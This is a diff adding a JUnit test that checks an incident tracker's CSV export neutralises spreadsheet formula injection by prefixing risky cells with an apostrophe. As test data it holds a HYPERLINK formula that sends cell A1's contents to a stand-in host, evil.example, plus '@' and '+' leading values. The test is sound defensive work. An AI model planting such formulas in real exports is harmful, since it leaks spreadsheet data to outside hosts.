@@ -229,6 +229,24 @@ class IncidentsRoutesTest {
         .GET().build(), HttpResponse.BodyHandlers.ofString()).body()).get("total").asLong());
   }
 
+  /** A hostile title or facet value reaches the CSV files analysts open in spreadsheets as text, never as a formula. */
+  @Test
+  void csvCellsNeverStartAFormula() throws Exception {
+    String evil = "=HYPERLINK(\"http://evil.example/?\"&A1,\"see\")";
+    assertEquals(201, post("/api/incidents/reports", "editor", Json.write(Map.of("url", "https://csv.example/1", "title", evil,
+        "outlet", "@outlet", "published", "2024-06-01", "sectors", java.util.List.of("+sector")))).statusCode());
+    new Clusterer(new Clusterer.Options(), Progress.silent()).run(db);
+    java.io.StringWriter export = new java.io.StringWriter();
+    IncidentExport.writeCsv(db, export);
+    org.apache.commons.csv.CSVRecord row = org.apache.commons.csv.CSVFormat.DEFAULT.builder().setHeader().setSkipHeaderRecord(true).build()
+        .parse(new java.io.StringReader(export.toString())).stream().filter(r -> "https://csv.example/1".equals(r.get("url"))).findFirst().orElseThrow();
+    assertEquals("'" + evil, row.get("title"));
+    assertEquals("'@outlet", row.get("outlet"));
+    String trend = get("/api/incidents/trends?granularity=year&split=sector&format=csv").body();
+    assertTrue(trend.contains(",'+sector,"), trend);
+    assertFalse(trend.lines().anyMatch(l -> l.split(",").length > 1 && l.split(",")[1].startsWith("+")), trend);
+  }
+
   /** A report naming a stored record's (source, source_id) would update it: only an editor may do that. */
   @Test
   void aReportCannotRewriteSomeoneElsesRecord() throws Exception {
